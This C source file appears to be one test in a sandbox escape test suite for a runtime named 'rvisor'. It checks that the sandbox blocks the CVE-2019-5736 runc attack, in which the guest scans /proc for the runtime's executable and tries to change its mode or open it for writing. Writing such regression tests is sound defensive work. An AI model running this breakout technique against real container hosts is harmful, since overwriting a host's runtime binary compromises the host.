// SPDX-License-Identifier: Apache-2.0
// Tries:      to get hold of the runtime's own executable while it enters the sandbox, and to change it: waits for processes
//             whose /proc/<pid>/exe is not one of the guest's programs.
// Known from: CVE-2019-5736 (runc).
// Must:       fail: either the runtime's file cannot be executed inside (Landlock), or it is a sealed copy.
// Control:    plain victim (a copy of /bin/sleep of its own)
// Argument:   "victim", or nothing: then commands that are links to /proc/self/exe should be started meanwhile
#include "attack.h"
#include <dirent.h>

int main(int argc, char **argv) {
  const char *wanted = "rvisor";
  if (argc > 1 && !strcmp(argv[1], "victim")) {
    wanted = "rvisor-victim";
    if (system("cp /bin/sleep /tmp/rvisor-victim.$$ && (/tmp/rvisor-victim.$$ 2; rm -f /tmp/rvisor-victim.*) &")) untried("no victim");
  }
  // Names that only we know are no use; this one says it is a guest that waits.
  puts("waiting");
  fflush(stdout);
  for (int round = 0; round < 4000; round++, usleep(500)) {
    DIR *proc = opendir("/proc");
    for (struct dirent *entry; proc && (entry = readdir(proc));) {
      char path[300], link[512] = {0};
      if (entry->d_name[0] < '0' || entry->d_name[0] > '9') continue;
      snprintf(path, sizeof path, "/proc/%s/exe", entry->d_name);
      if (readlink(path, link, sizeof link - 1) < 0 || !strstr(link, wanted)) continue;
      int fd = open(path, O_RDONLY);
      struct stat st;
      if (fd < 0 || fstat(fd, &st)) continue;
      if (strstr(link, "memfd:")) {  // nothing of the host's: but it must not be writable either, for later sandboxes
        if (open(path, O_RDWR) >= 0) won("%s can be written", link);
        continue;
      }
      if (!fchmod(fd, st.st_mode & 07777)) won("the mode of %s can be changed", link);
      if (open(path, O_RDWR) >= 0) won("%s can be written", link);
    }
    if (proc) closedir(proc);
  }
  held();
}
